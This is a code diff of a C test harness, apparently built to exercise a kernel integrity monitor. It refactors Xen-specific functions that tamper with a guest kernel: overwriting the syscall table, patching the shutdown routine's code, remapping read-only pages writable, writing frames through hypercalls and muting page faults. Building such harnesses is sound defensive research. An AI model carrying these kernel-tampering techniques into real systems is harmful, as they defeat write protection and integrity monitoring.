@@ -3,8 +3,8 @@
 #include <stddef.h>
 #include <stdint.h>
 
-#include "hypercall.h"
 #include "mm.h"
+#include "platform.h"
 #include "state.h"
 #include "syscalls.h"
 #include "text.h"
@@ -12,7 +12,7 @@
 
 #define WORD_SIZE sizeof(uint64_t)
 
-extern char empty_start[], empty_end[], mute_fault_entry[];
+extern char empty_start[], empty_end[];
 
 /* Takes the place of `shutdown`. In a section of its own, so that its length is known. */
 __attribute__((section(".empty_function"), noipa)) static void empty(const char *argument,
@@ -58,17 +58,6 @@ static long make_writable(const volatile void *address)
     return mm_set_entry(address, mm_entry(address) | PAGE_WRITABLE);
 }
 
-/* Writes a word of any own frame: Xen checks the type of the frame, not who maps it how. */
-static long write_frame(const volatile void *address, uint64_t word)
-{
-    struct mmu_update update = {
-        .ptr = mm_machine_address(address) | MMU_NORMAL_PT_UPDATE,
-        .val = word,
-    };
-
-    return hypercall_mmu_update(&update, 1);
-}
-
 /* Maps the frame behind an address a second time, writable; that mapping stays. */
 static long map_alias(const volatile void *address, enum spare_page spare)
 {
@@ -83,7 +72,11 @@ static long data_attack(void)
 
 static long code_attack(void)
 {
-    return write_code(page_of(shutdown));
+    platform->set_write_protection(false);
+    long result = write_code(page_of(shutdown));
+
+    platform->set_write_protection(true);
+    return result;
 }
 
 static long data_attack_remap(void)
@@ -97,12 +90,12 @@ static long code_attack_remap(void)
 {
     long result = make_writable(shutdown);
 
-    return result ? result : code_attack();
+    return result ? result : write_code(page_of(shutdown));
 }
 
 static long data_attack_hypercall(void)
 {
-    return write_frame(&sys_call_table[shutdown_p], (uint64_t)empty);
+    return platform->write_frame(&sys_call_table[shutdown_p], (uint64_t)empty);
 }
 
 static long code_attack_hypercall(void)
@@ -114,7 +107,7 @@ static long code_attack_hypercall(void)
     memcpy(words, (const void *)shutdown, sizeof(words));
     memcpy(words, empty_start, length < sizeof(words) ? length : sizeof(words));
     for (unsigned i = 0; !result && i * WORD_SIZE < length; i++)
-        result = write_frame((const uint64_t *)shutdown + i, words[i]);
+        result = platform->write_frame((const uint64_t *)shutdown + i, words[i]);
     return result;
 }
 
@@ -146,26 +139,20 @@ static long data_attack_swap(void)
 
 void mute_fault(struct registers *registers)
 {
-    const void *address = (const void *)shared_info.vcpu_info[0].arch.cr2;
+    const void *address = (const void *)platform->fault_address();
 
     if (make_writable(address))
         abandon_guarded_call(registers, (uint64_t)address);
 }
 
+/* Writes where it takes a page fault: to read-only text, else to data, which a monitor protects. */
 static long mute_attack(void)
 {
-    const struct trap_info mute[] = {
-        {
-            .vector = PAGE_FAULT_VECTOR,
-            .flags = TRAP_DISABLES_EVENTS,
-            .cs = FLAT_KERNEL_CS,
-            .address = (unsigned long)mute_fault_entry,
-        },
-        {.address = 0},
-    };
-    long result = hypercall_set_trap_table(mute);
+    long result = platform->mute_page_faults();
 
-    return result ? result : data_attack();
+    if (result)
+        return result;
+    return platform->text_is_read_only ? write_code(page_of(shutdown)) : data_attack();
 }
 
 #define ATTACK(function) {#function, function}
